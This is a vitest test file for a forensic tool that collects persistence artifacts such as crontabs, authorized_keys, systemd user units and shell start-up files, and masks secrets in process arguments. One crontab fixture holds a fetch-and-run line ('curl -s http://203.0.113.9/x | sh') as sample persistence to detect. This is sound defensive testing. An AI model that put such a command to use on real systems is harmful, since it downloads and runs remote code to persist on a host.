import { execFileSync } from "node:child_process";
import { afterEach, describe, expect, it } from "vitest";
import { maskArguments } from "../../src/collectors/live/processes.ts";
import { parseUnitText } from "../../src/collectors/persistence/systemd/unit-file.ts";
import { readAuthorizedKeys } from "../../src/collectors/persistence/ssh/authorized-keys.ts";
import { readHostCron } from "../../src/collectors/persistence/scheduled/host-cron.ts";
import { readShellStartup } from "../../src/collectors/persistence/login/shell-startup.ts";
import { readSystemdUser } from "../../src/collectors/persistence/systemd/systemd-user.ts";
import { setting, type Setting, type SettingOptions } from "./setting.ts";

/** Not a program of the project: the system has it. */
const mkfifo = "mkfifo";

let here: Setting | undefined;
async function made(options: SettingOptions): Promise<Setting> {
  here = await setting(options);
  return here;
}
afterEach(async () => {
  await here?.end();
  here = undefined;
});

const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcH";

describe("host files on a mounted disk", () => {
  it("reads the crontabs of all users and of the system", async () => {
    const { sources } = await made({
      files: {
        "/etc/crontab": "PATH=/bin\n17 * * * * root run-parts /etc/cron.hourly\n",
        "/etc/cron.d/x": "@reboot nobody /tmp/x\n",
        "/var/spool/cron/crontabs/claw": "*/5 * * * * curl -s http://203.0.113.9/x | sh\n",
        "/var/spool/cron/redhat": "0 1 * * * true\n",
      },
    });
    const { outcome, records } = await readHostCron(sources);
    expect(outcome).toBe("ok");
    expect(records.map(({ user, command, place }) => [user, command, place.path])).toEqual([
      [undefined, "/bin", "/etc/crontab"],
      ["root", "run-parts /etc/cron.hourly", "/etc/crontab"],
      ["nobody", "/tmp/x", "/etc/cron.d/x"],
      ["claw", "curl -s http://203.0.113.9/x | sh", "/var/spool/cron/crontabs/claw"],
      ["redhat", "true", "/var/spool/cron/redhat"],
    ]);
  });

  it("says what is denied, and does not run crontab for a disk", async () => {
    const { sources, fake } = await made({ files: { "/var/spool/cron/crontabs/claw": "x" } });
    fake.fail(fake.path("/var/spool/cron/crontabs"), "EACCES");
    const { outcome, reason } = await readHostCron(sources);
    expect(outcome).toBe("partial");
    expect(reason).toContain("/var/spool/cron/crontabs may not be read");
    expect(fake.ran).toEqual([]);
  });

  it("asks the set-gid crontab program on the live host only where the spool is closed", async () => {
    const { sources, fake } = await made({
      live: true,
      files: { "/var/spool/cron/crontabs/other": "x" },
      commands: { "crontab -l": { stdout: "@daily /opt/backup\n" } },
    });
    fake.fail(fake.path("/var/spool/cron/crontabs"), "EACCES");
    const { outcome, records } = await readHostCron(sources);
    expect(outcome).toBe("partial");
    expect(records).toMatchObject([{ user: "user", command: "/opt/backup" }]);
  });

  it("resolves links inside the disk, never to the examiner's own files", async () => {
    const { sources } = await made({
      files: { "/etc/crontab": { link: "/data/crontab" }, "/data/crontab": "@reboot root /inside\n" },
    });
    const { records } = await readHostCron(sources);
    expect(records).toMatchObject([{ command: "/inside" }]);
  });

  it("does not hang on a FIFO and does not throw on a folder", async () => {
    const { sources, fake } = await made({ files: { "/etc/cron.d/dir/x": "y" } });
    execFileSync(mkfifo, [fake.path("/etc/crontab")]);
    const { outcome, reason } = await readHostCron(sources);
    expect(outcome).toBe("partial");
    expect(reason).toContain("/etc/crontab is a fifo, not a file");
  });

  it("finds the keys of every account and of the places sshd_config names", async () => {
    const { sources } = await made({
      files: {
        "/etc/passwd": "root:x:0:0::/root:/bin/sh\nclaw:x:1000:1000::/home/user:/bin/sh\nbroken line\n",
        "/etc/ssh/sshd_config":
          "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\nAuthorizedKeysCommand /opt/keys\n",
        "~/.ssh/authorized_keys": `command="a,b" ${key} one\n`,
        "/root/.ssh/authorized_keys2": `${key} two\n`,
        "/etc/ssh/keys/claw": `${key} three\n`,
      },
    });
    const { outcome, reason, records } = await readAuthorizedKeys(sources);
    expect(records.map(({ user, comment }) => [user, comment])).toEqual([
      ["claw", "one"],
      ["claw", "three"],
      ["root", "two"],
    ]);
    expect(outcome).toBe("partial");
    expect(reason).toContain("AuthorizedKeysCommand /opt/keys");
  });

  it("reads units, drop-ins and the links that enable them; names of variables, no values", async () => {
    const { sources } = await made({
      files: {
        "~/.config/systemd/user/x.service":
          '[Service]\nEnvironment="TOKEN=FAKE-secret-value" B=2\nExecStart=/tmp/x \\\n  --y\n',
        "~/.config/systemd/user/x.service.d/o.conf":
          "[Service]\nExecStartPre=/bin/evil\nEnvironmentFile=-/tmp/e\n",
        "~/.config/systemd/user/default.target.wants/x.service": { link: "../x.service" },
      },
    });
    const { outcome, records } = await readSystemdUser(sources);
    expect(outcome).toBe("ok");
    const shown = records.map(({ kind, runs, loads }) => {
      // A masked value is different in every run.
      return { kind, runs, loads: loads.filter((line) => !line.startsWith("Environment=")) };
    });
    expect(shown).toEqual([
      { kind: "systemd-link", runs: [], loads: ["link to ../x.service"] },
      { kind: "systemd-unit", runs: ["ExecStart=/tmp/x    --y"], loads: [] },
      { kind: "systemd-drop-in", runs: ["ExecStartPre=/bin/evil"], loads: ["EnvironmentFile=-/tmp/e"] },
    ]);
    expect(records[1]?.loads[0]).toMatch(/^Environment=TOKEN=fp:[0-9a-f]{12} \(17 characters\)$/);
    expect(records[1]?.loads[1]).toBe("Environment=B=2");
    expect(JSON.stringify(records)).not.toContain("FAKE-secret-value");
  });

  it("hashes shell start-up files", async () => {
    const { sources } = await made({
      files: { "~/.bashrc": "alias sudo=x\n", "/etc/profile.d/a.sh": "b\n" },
    });
    const { records } = await readShellStartup(sources);
    expect(records.map((file) => file.place.path)).toEqual(["/home/user/.bashrc", "/etc/profile.d/a.sh"]);
    expect(records.every((file) => file.sha256?.length === 64)).toBe(true);
  });
});

describe("unit files", () => {
  it("takes anything", () => {
    const { settings, unreadable } = parseUnitText("\0\u001b[2K=\nExec=\nExecStart=\n=x\n\\\n\\");
    expect(settings).toEqual([]);
    expect(unreadable).toHaveLength(4);
  });
});

describe("arguments", () => {
  it("masks the values of options and assignments that name secrets", async () => {
    const { sources } = await made({});
    const masked = maskArguments(
      [
        "node",
        "--token",
        "FAKE-abcdefgh",
        "--api-key=FAKE-ijklmnop",
        "GH_TOKEN=FAKE-qrstuvwx",
        "--port",
        "18789",
      ],
      sources.redactor,
    );
    expect(masked.join(" ")).not.toContain("FAKE");
    expect(masked[0]).toBe("node");
    expect(masked[2]).toMatch(/^fp:[0-9a-f]{12} \(13 characters\)$/);
    expect(masked.slice(-2)).toEqual(["--port", "18789"]);
  });
});
